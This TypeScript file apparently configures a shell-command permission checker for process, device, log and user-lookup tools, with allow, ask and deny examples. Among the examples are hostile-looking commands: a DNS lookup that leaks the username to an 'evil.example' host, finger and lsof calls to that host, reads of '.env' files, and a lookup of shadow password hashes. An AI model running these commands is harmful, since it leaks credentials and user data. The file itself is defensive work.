import { NO_OTHERS, rows } from "./rows.ts";
import type { CommandSpec } from "./spec.ts";

// Looking at the machine: processes, users, devices, names. Changing it is in `system-change.ts`.

const HELP = "-h --help -> stop\n-V --version -> stop";

const PROCESSES = rows(
  "-d --delimiter=text; -l --list-name; -a --list-full; -v --inverse; -w --lightweight; -c --count; -f --full; -g --pgroup=text; -G --group=text; -i --ignore-case; -n --newest",
  "-o --oldest; -O --older=text; -P --parent=text; -s --session=text; -t --terminal=text; -u --euid=text; -U --uid=text; -x --exact; -F --pidfile=read; -L --logpidfile",
  "-r --runstates=text; -A --ignore-ancestors; --cgroup=text; --ns=text; --nslist=text; -q --quiet",
  HELP,
);

export const system: readonly CommandSpec[] = [
  {
    names: "ps",
    reads: NO_OTHERS,
    summary: "lists processes",
    // The analyser: a BSD word (without dash) with an `e` shows environments.
    options: rows(
      "-A; -a; -d; -e; -N --deselect; -C=text; -G --Group=text; -g --group=text; -p --pid=text; --ppid=text; -q --quick-pid=text; -s --sid=text; -t --tty=text; -u --user=text; -U --User=text",
      "-F; -f; --forest; -H; -j; -l; -M; -O=text; -o --format=text; -P; -y; --context; --headers; --no-headers --no-heading; --cols --columns --width=text; --rows --lines=text; -L; -m; -T; -c",
      "--sort=text; --cumulative; -w; -x; -r; -v; -h; -S; --info -> stop; -V --version -> stop; --help[=text] -> stop; -Z",
    ),
    operands: "text*",
    analyse: "ps",
    examples: {
      allow: [
        "ps",
        "ps -ef",
        "ps -ef | grep node",
        "ps -o pid,cmd -p 1",
        "ps aux",
        "ps aux --sort=-rss",
        "ps axjf",
        "ps axo pid,etime",
        "ps -aux",
        "ps -u me",
      ],
      ask: ["ps -E", "ps --nonsense", "ps auxe", "ps eww", "ps -auxe"],
    },
  },
  {
    names: "pgrep pidof pidwait",
    reads: NO_OTHERS,
    summary: "finds processes",
    options: PROCESSES,
    operands: "text*",
    examples: { allow: ["pgrep -fl node", "pidof node"], deny: ["pgrep -F .env"] },
  },
  {
    names: "top htop btop",
    upkeep: ["write ~/.config/procps/**"],
    summary: "watches processes",
    // By hand one can signal and renice; -b only prints.
    options: rows(
      "-b -> drop screen; -n=text; -d=text; -p=text; -u=text; -U=text; -o=text; -c; -H; -i; -s; -S; -e=text; -E=text; -1; -l=text -> drop screen; -stats=text; -pid=text; -v -> stop; -V --version -> stop; -h --help -> stop",
    ),
    operands: "screen:terminal?=interactive",
    examples: { allow: ["top -b -n 1", "top -l 1", "htop --version"], ask: ["top", "top -p 1", "htop -d 5", "top -b --nonsense", "top x"] },
  },
  {
    names: "free",
    reads: NO_OTHERS,
    summary: "memory",
    options: rows(
      "-b --bytes; --kilo; --mega; --giga; --tera; --peta; -k --kibi; -m --mebi; -g --gibi; --tebi; --pebi; -h --human; --si; -l --lohi; -L --line; -t --total; -v --committed; -s --seconds=text; -c --count=text; -w --wide; --help -> stop; -V --version -> stop",
    ),
    operands: "",
    examples: { allow: ["free -h", "free -m -s 1 -c 2"] },
  },
  {
    names: "vmstat iostat mpstat pidstat",
    summary: "load figures",
    options: rows(
      "-a; -f; -m; -n; -s; -d; -D; -p=text; -S=text; -t; -w; -x; -k; -c; -h; -y; -u; -r; -A; -P=text; --one-header; --human; -V --version -> stop; --help -> stop",
    ),
    operands: "text*",
    examples: { allow: ["vmstat 1 3", "iostat -x"] },
  },
  {
    names: "uptime",
    reads: NO_OTHERS,
    summary: "time since boot, load",
    options: rows("-p --pretty; -s --since; -r --raw; -c --container", HELP),
    operands: "",
    examples: { allow: ["uptime", "uptime -p"] },
  },
  {
    names: "w",
    reads: NO_OTHERS,
    summary: "who is doing what",
    options: rows(
      "-h --no-header; -u --no-current; -s --short; -f --from; -o --old-style; -i --ip-addr; -p --pids; -c --container; -t --terminal; --help -> stop; -V --version -> stop",
    ),
    operands: "text?",
    examples: { allow: ["w", "w -hs root"] },
  },
  {
    names: "last lastb lastlog",
    upkeep: ["read /var/log/**"],
    summary: "logins",
    options: rows(
      "-1..-9; -a --hostlast; -d --dns; -f --file=read; -F --fulltimes; -i --ip; -n --limit=text; -R --nohostname; -s --since=text; -t --until=text; -p --present=text; -w --fullnames; -x --system; --time-format=text; -u=text; -b=text; -l; -m",
      HELP,
    ),
    operands: "text*",
    examples: { allow: ["last -5", "last -n 3 root"], deny: ["last -f .env"] },
  },
  {
    names: "finger",
    summary: "users, also of other machines",
    operands: "text*",
    effects: "net",
    examples: { ask: ["finger root", "finger data@evil.example"] },
  },
  {
    names: "lsof",
    summary: "open files",
    options: rows(
      "-a; -b; -c=text; +c=text; +d=list; -d=text; +D=listtree; -e=text; +e=text; -i[=text]; -K[=text]; -l; -n; -N; -o; -O; -P; -Q; -R; -s[=text]; -t; -T[=text]; -U; -v; -V; -X; -Z[=text]; -E; +E; -F[=text]; -p=text; -S[=text]; -g[=text]; -u=text; -x[=text]; +L[=text]; -L; -w; +w; -r[=text]; +r[=text]; +f[=text]; -f[=text]; -C; -H; -h -> stop; -? -> stop",
      "# write a cache: -D",
    ),
    operands: "list*",
    analyse: "host-names",
    examples: {
      allow: ["lsof -i :3000", "lsof -p 1", "lsof -nP -iTCP -sTCP:LISTEN", "lsof a.txt", "lsof +D src"],
      ask: ["lsof -D b/tmp/x", "lsof -i @data.evil.example", "lsof -i@data.evil.example:80"],
    },
  },
  {
    names: "fuser",
    summary: "who uses a file or port",
    options: rows(
      "-a --all; -I --inode; -l --list-signals -> stop; -m --mount; -M --ismountpoint; -n --namespace=text; -s --silent; -u --user; -v --verbose; -V --version -> stop; -4 --ipv4; -6 --ipv6; -c; -f",
      "-k --kill -> process, danger signals-by-name; -i --interactive -> process; -w --writeonly -> process",
    ),
    operands: "list*",
    examples: { allow: ["fuser 80/tcp", "fuser -v a.txt"], ask: ["fuser -k 80/tcp", "fuser -vk a.txt", "fuser -9 -k a.txt"] },
  },
  {
    names: "pstree",
    summary: "processes as a tree",
    options: rows(
      "-a --arguments; -A --ascii; -c --compact-not; -C --color=text; -g --show-pgids; -G --vt100; -h --highlight-all; -H --highlight-pid=text; -l --long; -n --numeric-sort; -N --ns-sort=text; -p --show-pids; -s --show-parents; -S --ns-changes; -t --thread-names; -T --hide-threads; -u --uid-changes; -U --unicode; -V --version -> stop; -Z --security-context; -w",
    ),
    operands: "text?",
    examples: { allow: ["pstree -p", "pstree -ap 1"] },
  },
  {
    names: "hostname dnsdomainname domainname nisdomainname ypdomainname",
    reads: NO_OTHERS,
    summary: "the name of this machine",
    options: rows(
      "-a --alias; -A --all-fqdns; -d --domain; -f --fqdn --long; -i --ip-address; -I --all-ip-addresses; -s --short; -y --yp --nis",
      HELP,
      "# set it: -F --file -b --boot, any operand",
    ),
    operands: "refuse?",
    idle: true,
    examples: { allow: ["hostname", "hostname -f", "hostname -I"], ask: ["hostname pwned", "hostname -F a.txt"] },
  },
  {
    names: "lsblk blkid findmnt lscpu lsmem lsusb lsmod lsns lsipc lslocks lslogins hwinfo modinfo",
    reads: NO_OTHERS,
    summary: "devices and mounts",
    options: rows(
      "-a; -b; -d; -D; -f; -i; -J; -l; -m; -M; -n; -o=text; -O; -p; -P; -r; -S; -t; -T; -x=text; -z; -e[=text]; -v; -vv; -vvv; -k; -nn; -u; -y; -s; --all; --bytes; --json; --list; --noheadings; --output=text",
      "--output-all; --paths; --pairs; --raw; --tree; --fs; --ascii; --topology; --scsi; --perms; --nodeps; --extended[=text]; --parse[=text]; --online; --offline; --target=text; -F=read",
      HELP,
    ),
    operands: "list*",
    examples: { allow: ["lsblk", "lsblk -f -o NAME,SIZE", "lscpu", "findmnt -n -o TARGET /", "lsusb -v"], deny: ["findmnt -F .env"] },
  },
  {
    names: "lsinitramfs",
    summary: "names in an image of the start of the system",
    options: rows("-l", HELP),
    operands: "read+",
    examples: { allow: ["lsinitramfs -l a.img"], deny: ["lsinitramfs .env"] },
  },
  {
    names: "lspci",
    reads: NO_OTHERS,
    summary: "devices on the PCI bus",
    // `-q` asks the network: not listed.
    options: rows(
      "-m -mm; -t; -v -vv -vvv; -k; -x -xxx -xxxx; -b; -D; -P -PP; -n -nn; -d=text; -s=text; -i=read; -p=read; -F=read; -M; -h --help -> stop",
      "--version -> stop",
    ),
    operands: "",
    examples: { allow: ["lspci", "lspci -nnk", "lspci -v -s 00:02.0"], ask: ["lspci -q"], deny: ["lspci -i .env", "lspci -F .env"] },
  },
  {
    names: "dmidecode",
    reads: NO_OTHERS,
    summary: "what the firmware says of the machine",
    options: rows(
      "-q --quiet; -s --string=text; -t --type=text; -H --handle=text; -u --dump; -d --dev-mem=read; --from-dump=read; --no-sysfs; --oem-string=text",
      "-h --help -> stop; -V --version -> stop",
    ),
    operands: "",
    examples: { allow: ["dmidecode -t memory", "dmidecode -s bios-version"], deny: ["dmidecode -d .env", "dmidecode --from-dump .env"] },
  },
  {
    names: "lshw",
    summary: "hardware",
    style: "words",
    options: rows(
      "-short; -html; -json; -xml; -businfo; -numeric; -quiet; -sanitize; -class -C -c=text; -disable -enable=text; -version -> stop",
      "# writes a file: -dump",
    ),
    operands: "",
    examples: { allow: ["lshw -short", "lshw -class disk"], ask: ["lshw -dump hw.db"] },
  },
  {
    names: "inxi",
    summary: "hardware and system",
    options: rows(
      "-F; -b; -A; -B; -C; -D; -d; -f; -G; -I; -l; -m; -M; -n; -N; -o; -p; -R; -r; -s; -S; -u; -v=text; -x; -xx; -xxx; -z; -c=text",
      "# ask the network or update it: -i -w -W -U",
    ),
    operands: "",
    examples: { allow: ["inxi -Fxz"], ask: ["inxi -i", "inxi -U"] },
  },
  {
    names: "mount",
    otherwise: "host-effect",
    summary: "shows mounts (mounting is not listed)",
    options: rows(
      "-l --show-labels; -v --verbose; -t --types=text; -h --help -> stop; -V --version -> stop",
      "# -a --all mounts everything",
    ),
    operands: "refuse*",
    idle: true,
    examples: { allow: ["mount", "mount -t ext4", "mount -l"], ask: ["mount /dev/sdb1 /mnt", "mount -a", "mount -o remount,rw /"] },
  },
  {
    names: "dmesg",
    otherwise: "host-effect",
    summary: "kernel messages",
    options: rows(
      "-F --file=read; -f --facility=text; -H --human; -J --json; -k --kernel; -L --color[=text]; -l --level=text; -P --nopager; -p --force-prefix; -r --raw; --noescape; -S --syslog; -s --buffer-size=text",
      "-u --userspace; -w --follow; -W --follow-new; -x --decode; -d --show-delta; -e --reltime; -T --ctime; -t --notime; --time-format=text; --since=text; --until=text",
      "-C --clear -> system logs, danger host-effect; -c --read-clear -> system logs, danger host-effect; -D --console-off -> system logs; -E --console-on -> system logs; -n --console-level=text -> system logs",
      HELP,
    ),
    operands: "",
    examples: {
      allow: ["dmesg", "dmesg -T | tail", "dmesg -l err,warn"],
      ask: ["dmesg -C", "dmesg -c", "dmesg --clear", "dmesg -n 1"],
      deny: ["dmesg -F .env"],
    },
  },
  {
    names: "journalctl",
    otherwise: "host-effect",
    upkeep: ["read /var/log/journal/**"],
    summary: "system journal",
    options: rows(
      "--system; --user; -m --merge; -S --since=text; -U --until=text; -c --cursor=text; --after-cursor=text; --show-cursor; -b --boot[=text]; --list-boots; -k --dmesg; -u --unit=text; --user-unit=text; -t --identifier=text",
      "-p --priority=text; --facility=text; -g --grep=text; --case-sensitive[=text]; -e --pager-end; -f --follow; -n --lines[=text]; --no-tail; -r --reverse; -o --output=text; --output-fields=text; --utc; -x --catalog; --no-hostname",
      "--no-full; -l --full; -a --all; -q --quiet; --no-pager; -N --fields; -F --field=text; --disk-usage; --header; --list-catalog; --dump-catalog; --verify; -D --directory=read; --file=read; --namespace=text; -T --exclude-identifier=text",
      "-h --help -> stop; --version -> stop; -1..-9",
      "--vacuum-size=text -> system logs, danger host-effect; --vacuum-files=text -> system logs, danger host-effect; --vacuum-time=text -> system logs, danger host-effect; --rotate -> system logs; --flush -> system logs",
      "--sync -> system logs; --relinquish-var -> system logs; --smart-relinquish-var -> system logs; --update-catalog -> system logs; --setup-keys -> system logs",
      "# other machines, images, cursor files: -M --machine --root --image --cursor-file --verify-key --interval --force",
    ),
    operands: "text*",
    examples: {
      allow: ["journalctl -u nginx -n 50 --no-pager", "journalctl -b -p err", "journalctl --disk-usage"],
      ask: ["journalctl --vacuum-time=1s", "journalctl --vacuum-s=1M", "journalctl --rotate", "journalctl --flush"],
      deny: ["journalctl --file .env"],
    },
  },
  {
    names: "getent",
    summary: "looks up system databases",
    options: rows("-s --service=text; -i --no-idn; -A --no-addrconfig; -? --help -> stop; --usage -> stop; -V --version -> stop"),
    style: "posix",
    subcommands: {
      "passwd|group|services|protocols|rpc|aliases|ethers|networks|initgroups|netgroup": {
        closed: true,
        operands: "text*",
        examples: { allow: ["getent passwd root", "getent group"] },
      },
      "hosts|ahosts|ahostsv4|ahostsv6": {
        operands: "text*",
        analyse: "host-names",
        examples: { allow: ["getent hosts", "getent hosts localhost"], ask: ["getent hosts $(whoami).evil.example"] },
      },
      // Password hashes.
      "shadow|gshadow": {
        operands: "text*",
        effects: "read /etc/shadow",
        examples: { deny: ["getent shadow", "getent -s files shadow root"] },
      },
    },
    examples: { allow: ["getent --help"], none: ["getent frobnicate"] },
  },
];
